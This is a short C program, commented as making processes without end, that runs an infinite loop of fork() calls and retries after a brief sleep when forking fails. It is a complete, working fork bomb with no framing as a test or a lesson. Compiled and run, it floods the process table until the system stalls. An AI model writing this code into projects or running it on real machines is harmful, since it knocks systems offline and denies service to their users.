/* Makes processes without end: every one of them makes more. */
#include <unistd.h>

int main(void) {
  for (;;) {
    if (fork() < 0) usleep(1000);
  }
}
